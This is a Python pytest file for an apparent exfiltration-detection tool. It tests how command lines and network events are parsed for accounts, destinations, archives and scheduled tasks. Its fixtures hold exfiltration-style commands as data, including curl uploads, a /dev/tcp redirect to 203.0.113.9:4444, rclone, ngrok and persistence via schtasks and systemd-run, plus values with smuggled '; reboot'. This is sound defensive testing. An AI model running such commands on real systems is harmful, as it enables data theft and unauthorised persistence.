"""What a finding says of who, what, where and where to."""

import pytest

from exfilwatch.findings.finding import EvidenceEvent, Finding
from exfilwatch_playbooks.response.facts import basename, facts

from ..findings.made import make  # noqa: TID252 (tests are no package on the path)


def with_event(finding: Finding, category: str, **fields: object) -> Finding:
    """The finding with one more event."""
    event = finding.events[0].model_copy(update={"id": "other", "category": category, "fields": fields})
    return finding.model_copy(update={"events": [*finding.events, EvidenceEvent.model_validate(event)]})


@pytest.mark.parametrize(
    ("host", "user", "account", "domain_account", "local_account"),
    [
        ("WS1", "CORP\\anna", "anna", "anna", None),
        ("WS1", "anna@corp.local", "anna", "anna", None),
        ("WS1.corp.local", "WS1\\anna", "anna", None, "anna"),
        ("ws1", "ws1.corp.local/anna", "anna", None, "anna"),
        ("WS1", "anna", "anna", None, None),
        ("WS1", ".\\anna", "anna", None, None),
        ("WS1", "AzureAD\\AnnaSmith", "AnnaSmith", None, None),
        ("WS1", "S-1-5-21-1-2-3-1001", "S-1-5-21-1-2-3-1001", "S-1-5-21-1-2-3-1001", None),
        ("WS1", "S-1-5-18", None, None, None),
        ("WS1", "NT AUTHORITY\\SYSTEM", None, None, None),
        ("WS1", "NT-AUTORITÄT\\Netzwerkdienst", "Netzwerkdienst", None, None),
        ("WS1", "CORP\\WS1$", None, None, None),
        ("WS1", "root", None, None, None),
        ("WS1", "1000", None, None, None),
        ("WS1", "CORP\\", None, None, None),
        ("WS1", "-", None, None, None),
        (None, "CORP\\anna", "anna", "anna", None),
        (None, None, None, None, None),
    ],
)
def test_an_account_is_a_domains_a_hosts_or_nobodys(host, user, account, domain_account, local_account):
    found = facts(make("a", host=host, user=user))
    assert (found.account, found.domain_account, found.local_account) == (account, domain_account, local_account)


@pytest.mark.parametrize(
    ("command", "destination", "name", "ip"),
    [
        ("curl -T a.zip https://files.example/in?x=1", "https://files.example/in?x=1", "files.example", None),
        ("powershell \"$c.UploadFile('http://127.0.0.1:8443/u', $_)\"", "http://127.0.0.1:8443/u", None, None),
        ("curl -T a http://ws1.corp.local/in", "http://ws1.corp.local/in", None, None),
        ("bash -c 'cat x >/dev/tcp/203.0.113.9/4444'", "203.0.113.9:4444", None, "203.0.113.9"),
        ("scp -r /data anna@files.example:/in", "anna@files.example:/in", "files.example", None),
        ("while true; do curl -T a http://files.example/in; done", "http://files.example/in", "files.example", None),
        ("curl -T a http://203.0.113.9/in", "http://203.0.113.9/in", None, "203.0.113.9"),
        ('powershell "$u = \\"https://files.example\\"; iwr $u"', "https://files.example", None, None),
        ("tar cf a.tar /home", None, None, None),
    ],
)
def test_the_destination_is_read_from_the_command_line(command, destination, name, ip):
    found = facts(make("a", CommandLine=command, Image=""))
    assert (found.destination, found.destination_name, found.destination_ip) == (destination, name, ip)
    assert not found.connected


@pytest.mark.parametrize(
    ("command", "folder", "archive", "archive_path", "source_path"),
    [
        (r"7z a C:\t\q.7z C:\Users\anna", None, r"C:\t\q.7z", r"C:\t\q.7z", None),
        (r"7z a q.7z C:\Users\anna", "C:\\work\\", "q.7z", r"C:\work\q.7z", None),
        (r"7z a q.7z C:\Users\anna", None, "q.7z", None, None),
        (r"7z a %TEMP%\q.7z C:\Users\anna", "C:\\work\\", r"%TEMP%\q.7z", None, None),
        ("tar czf q.tgz /home/anna", "/tmp", "q.tgz", "/tmp/q.tgz", None),
        ("tar czf ../q.tgz /home/anna", "/tmp", "../q.tgz", None, None),
        ("curl -T /tmp/q.tgz https://files.example/", None, "/tmp/q.tgz", "/tmp/q.tgz", "/tmp/q.tgz"),
        ("curl -T q.pdf https://files.example/", "/home/anna", None, None, "/home/anna/q.pdf"),
        ("curl -T $f https://files.example/", "/home/anna", None, None, None),
    ],
)
def test_what_was_packed_and_sent_is_read_from_the_command_line(command, folder, archive, archive_path, source_path):
    program = command.split()[0]
    image = f"C:\\bin\\{program}.exe" if program == "7z" else f"/usr/bin/{program}"
    found = facts(make("a", CommandLine=command, Image=image, CurrentDirectory=folder))
    assert (found.archive, found.archive_path, found.source_path) == (archive, archive_path, source_path)


def test_a_windows_record_without_an_image_is_read_as_windows_does():
    """As the Security log has a task: its action, and no process."""
    line = r"bitsadmin /transfer x /upload http://files.example/in C:\Users\d\collect.zip"
    found = facts(make("a", CommandLine=line, Image=None))
    assert (found.source_path, found.tool) == (r"C:\Users\d\collect.zip", "bitsadmin")


@pytest.mark.parametrize(
    ("command", "families", "directions", "tool"),
    [
        ("rclone copy /home/anna mega:up", {"cloud"}, {"upload"}, "rclone"),
        ("ngrok http 80", {"tunnel"}, {"tunnel"}, "ngrok"),
        ("python3 -m http.server 8000", {"other", "script", "http client", "share"}, {"offer"}, None),
        ("curl https://files.example/in", set(), set(), None),
    ],
)
def test_what_the_command_does_tells_its_kind(command, families, directions, tool):
    found = facts(make("a", CommandLine=command, Image=""))
    assert found.families <= families
    assert found.directions == directions
    assert tool in (None, found.tool)


@pytest.mark.parametrize(
    ("fields", "destination", "ip"),
    [
        ({"DestinationIp": "203.0.113.9", "DestinationPort": 443}, "203.0.113.9:443", "203.0.113.9"),
        ({"DestinationIp": "2001:db8::1", "DestinationPort": 443}, "[2001:db8::1]:443", "2001:db8::1"),
        (
            {"DestinationIp": "203.0.113.9", "DestinationPort": "443", "DestinationHostname": "files.example"},
            "files.example (203.0.113.9:443)",
            "203.0.113.9",
        ),
        ({"DestinationIp": "127.0.0.1", "DestinationPort": 8443}, "127.0.0.1:8443", None),
        ({"DestinationIp": "1.2.3.4; reboot"}, "1.2.3.4; reboot", None),
        ({"DestinationIp": "-", "DestinationHostname": "-"}, None, None),
    ],
)
def test_the_destination_is_read_from_a_connection(fields, destination, ip):
    found = facts(with_event(make("a", CommandLine="7z a x.7z C:\\Users"), "network_connection", **fields))
    assert (found.destination, found.destination_ip, found.connected) == (destination, ip, True)
    assert found.program == "curl.exe"


@pytest.mark.parametrize(
    ("command", "fields", "here", "port"),
    [
        ("curl -T a http://127.0.0.1:8080/in", {}, True, "8080"),
        ("curl -T a 'http://[::1]:9090/in'", {}, True, "9090"),
        ("curl -T a http://localhost/in", {}, True, None),
        ("7z a x.7z", {"DestinationIp": "127.0.0.1", "DestinationPort": 8443}, True, "8443"),
        ("7z a x.7z", {"DestinationIp": "::1", "DestinationPort": 8443, "DestinationHostname": "WS1"}, True, "8443"),
        ("curl -T a http://127.0.0.1:8080/in", {"DestinationIp": "203.0.113.9"}, False, None),
        ("curl -T a http://files.example:8080/in", {}, False, None),
        ("7z a x.7z", {}, False, None),
    ],
)
def test_a_destination_may_be_the_host_itself(command, fields, here, port):
    found = facts(with_event(make("a", CommandLine=command, Image=""), "network_connection", **fields))
    assert (found.here, found.port) == (here, port)


def test_a_sensors_name_for_the_hosts_own_address_is_no_other_host():
    named = {"DestinationIp": "127.0.0.1", "DestinationHostname": "WS1.corp.local"}
    found = facts(with_event(make("a", host="WS1", CommandLine="7z a x.7z"), "network_connection", **named))
    assert (found.destination_name, found.destinations[0]) == (None, "WS1.corp.local (127.0.0.1)")


@pytest.mark.parametrize(
    ("value", "expected"),
    [(4242, "4242"), ("0x1F", "31"), ("0044", "44"), ("4 & reboot", None), ("٣", None), ("-", None), ("9" * 11, None)],
)
def test_a_process_id_is_a_decimal_number_or_nothing(value, expected):
    assert facts(make("a", ProcessId=value)).process_id == expected


@pytest.mark.parametrize(
    ("command", "task"),
    [
        ('schtasks /create /tn "Windows Update" /tr x', "\\Windows Update"),
        ("schtasks /Create /SC HOURLY /TN \\Sync\\Docs /TR x", "\\Sync\\Docs"),
        ("schtasks -create -tn x", "\\x"),
        ('schtasks /create /tn "\\" /tr x', None),
        ("schtasks /create /tr x", None),
        ("curl --tn x", None),
        ("powershell Register-ScheduledTask -Action $a -TaskName 'Sync Docs' -Trigger $t", "\\Sync Docs"),
        ("systemd-run --on-calendar=hourly --unit=sync curl -T /tmp/q.tgz http://x.test/", "sync.timer"),
        ("systemd-run --unit sync.service curl -T /tmp/q.tgz http://x.test/", "sync.service"),
        ("systemctl enable --now sync.timer", "sync.timer"),
        ("systemctl --user start sync.timer", "sync.timer"),
        ("systemctl status sync.timer", None),
        ("launchctl load -w /Library/LaunchAgents/com.sync.plist", "/Library/LaunchAgents/com.sync.plist"),
        ("launchctl bootstrap gui/501 /Users/a/Library/LaunchAgents/s.plist", "/Users/a/Library/LaunchAgents/s.plist"),
        ("launchctl list", None),
    ],
)
def test_a_schedules_name_is_read_from_the_command_that_makes_it(command, task):
    assert facts(make("a", CommandLine=command)).task == task


def test_each_destination_is_named_once():
    found = facts(make("a", CommandLine="curl ftp://a.example/ ftp://a.example/, sftp://b.example/"))
    assert (found.destinations, found.destination) == (("ftp://a.example/", "sftp://b.example/"), "ftp://a.example/")


def test_a_registered_task_says_its_name_and_where_it_sends():
    finding = make("a").model_copy(
        update={
            "events": [make("a").events[0].model_copy(update={"category": "", "fields": {}})],
            "fields": {
                "TaskName": "\\Collect",
                "TaskContent": '<Task xmlns="http://schemas.microsoft.com/x">curl -T a https://files.example/</Task>',
            },
        }
    )
    found = facts(finding)
    assert (found.task, found.destinations, found.program) == ("\\Collect", ("https://files.example/",), None)
    assert found.content is not None


@pytest.mark.parametrize(
    ("image", "program", "path", "product"),
    [
        ("C:\\Windows\\System32\\curl.exe", "curl.exe", "C:\\Windows\\System32\\curl.exe", "windows"),
        ("/usr/bin/curl", "curl", "/usr/bin/curl", ""),
        ("curl.exe", "curl.exe", None, ""),
        ("\\Device\\HarddiskVolume2\\curl.exe", "curl.exe", None, ""),
        ("", None, None, ""),
    ],
)
def test_only_a_whole_path_goes_into_commands(image, program, path, product):
    finding = make("a", Image=image)
    finding = finding.model_copy(update={"events": [finding.events[0].model_copy(update={"product": ""})]})
    found = facts(finding)
    assert (found.program, found.image_path, found.product) == (program, path, product)


@pytest.mark.parametrize(("path", "name"), [("a\\b/c", "c"), ("C:\\", "C:\\"), ("x", "x"), ("", None), (None, None)])
def test_basename(path, name):
    assert basename(path) == name


def test_bytes_sent_are_added_up():
    finding = with_event(make("a"), "network_connection", orig_bytes="1000")
    assert facts(with_event(finding, "network_connection", orig_bytes=24)).bytes_sent == 1024
    assert facts(make("a")).bytes_sent is None


def test_nothing_is_made_of_events_that_say_nothing():
    finding = make("a", None, host=None, user=None, Image=None, CommandLine=None).model_copy(update={"fields": {}})
    found = facts(finding)
    assert (found.host, found.program, found.command_line, found.destination, found.task) == (None,) * 5
